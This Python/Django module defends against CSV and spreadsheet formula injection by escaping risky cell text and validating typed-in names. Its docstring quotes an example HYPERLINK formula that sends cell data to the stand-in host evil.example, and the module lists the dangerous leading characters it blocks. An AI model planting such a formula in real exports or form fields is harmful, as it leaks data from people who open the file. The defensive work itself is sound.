"""Cells for spreadsheets: no text we write can become a formula (CSV/formula injection).

A name such as ``=HYPERLINK("http://evil.example/?leak="&A1,"点击")`` entered through a form
would otherwise reach a bank file or the roster and run when a clerk opens it: openpyxl stores
a string starting with ``=`` as a live formula, and Excel or WPS evaluates a CSV field
starting with ``=``, ``+``, ``-`` or ``@`` (and a tab or carriage return before one).
Following OWASP's CSV-injection guidance every writer goes through ``safe_cell``: such text
gets a leading apostrophe, so it is shown, never evaluated. Numbers stay numbers (a negative
amount is ``Decimal("-12.00")``, not text), and a text that is just a plain number ("-12.00")
is left alone: no spreadsheet reads it as anything but that number.

Where a name is typed in, ``refuse_formula_text`` turns such a name away with a clear message
first (payee, account holder and person names in forms, serializers and services).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

from django.core.exceptions import ValidationError
from django.utils.functional import Promise
from django.utils.translation import gettext_lazy as _
from openpyxl.cell.cell import Cell

# OWASP: =, +, -, @, tab (0x09) and carriage return (0x0D) at the start of a field. The
# full-width forms are a precaution: a clerk retyping or converting the text to half-width
# (a common step with Chinese data) would turn them into the ASCII ones.
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")

FORMULA_TEXT_MESSAGE = _(
    "A name may not start with =, +, -, @, a tab or a line break: spreadsheets would read it "
    "as a formula."
)


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could take ``text`` for a formula (a plain number is not)."""
    return text.startswith(DANGEROUS_STARTS) and not _PLAIN_NUMBER.fullmatch(text)


def safe_cell(value: Any) -> Any:
    """``value`` as it may go into a spreadsheet cell: text that could be read as a formula
    gets a leading apostrophe; numbers, dates, None and every other text are unchanged."""
    if isinstance(value, Promise):  # a lazy translation is text
        value = str(value)
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """``safe_cell`` over a whole row."""
    return [safe_cell(v) for v in values]


def csv_writerow(writer: Any, values: Iterable[Any]) -> None:
    """Write one CSV row through ``safe_cell`` (``writer`` is a ``csv.writer``)."""
    writer.writerow(safe_row(values))


def csv_writer(buffer: Any, **options: Any) -> SafeCsvWriter:
    """A ``csv.writer`` whose every row goes through ``safe_cell``."""
    return SafeCsvWriter(csv.writer(buffer, **options))


class SafeCsvWriter:
    """``csv.writer`` with the same two methods, every field neutralised first."""

    def __init__(self, writer: Any):
        self._writer = writer

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def xlsx_cells(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """openpyxl cells for one row: text is neutralised and stored as text (data type "s",
    never a formula, whatever it starts with); numbers, dates and empty cells as they are."""
    cells = []
    for value in values:
        value = safe_cell(value)
        # a placeholder position: append() puts the cell in its row and column (and openpyxl's
        # write-only sheet prints a cell's coordinate when it adopts it, so one must exist)
        cell = Cell(sheet, row=1, column=1, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells


def xlsx_append(sheet: Any, values: Iterable[Any]) -> None:
    """``sheet.append(values)`` for a normal or write-only worksheet, through ``xlsx_cells``."""
    sheet.append(xlsx_cells(sheet, values))


def starts_like_formula(name: str) -> bool:
    """Whether a typed-in name starts (after spaces) the way a formula does; a name is never
    a number, so unlike ``is_formula_like`` no plain number is let through."""
    return name.lstrip(" \u3000").startswith(DANGEROUS_STARTS)


def refuse_formula_text(value: Any) -> None:
    """Validator for names typed in: refuses a name a spreadsheet would take for a formula."""
    if isinstance(value, str) and starts_like_formula(value):
        raise ValidationError(FORMULA_TEXT_MESSAGE, code="formula_text")
